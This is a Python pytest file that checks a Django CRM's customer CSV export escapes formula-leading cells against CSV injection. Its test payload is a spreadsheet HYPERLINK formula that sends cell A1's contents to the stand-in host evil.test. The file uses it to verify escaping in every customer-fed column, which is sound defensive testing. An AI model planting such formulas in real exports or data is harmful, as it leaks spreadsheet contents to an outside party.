"""The customer CSV export never hands a spreadsheet a formula: a cell starting with
= + - @, a tab or a carriage return is prefixed with ' (OWASP "CSV injection"), in every
column a customer's data can reach (imported or typed by staff)."""

import csv
import io

import pytest
from django_tenants.utils import schema_context

from tests.workspace import api, make_branch, make_customer

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]


def export_rows(client) -> list[list[str]]:
    response = client.get("/api/v1/customers/export/")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("prefix", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_every_customer_column_is_escaped(db, prefix):
    from apps.crm.models import GuardianContact, Tag

    payload = prefix + 'HYPERLINK("http://evil.test/?leak="&A1)'
    branch = make_branch("alpha", payload)
    customer = make_customer("alpha", payload, branch=branch, email=payload, notes=payload)
    with schema_context("alpha"):
        customer.tags.add(Tag.objects.create(name=payload[:50]))
        GuardianContact.objects.create(customer=customer, name=payload, relation="parent")

    rows = export_rows(api("alpha", "owner@alpha.test"))
    header, row = rows[0], next(r for r in rows[1:] if r[0] == str(customer.pk))
    cells = dict(zip(header, row, strict=True))
    for column in ("name", "email", "branch", "notes"):
        assert cells[column] == "'" + payload, (column, cells[column])
    assert cells["tags"] == "'" + payload[:50]
    assert cells["guardians"].startswith("'" + payload)
    for data_row in rows[1:]:
        unsafe = [cell for cell in data_row if cell[:1] in DANGEROUS]
        assert not unsafe, f"cells a spreadsheet would run: {unsafe}"
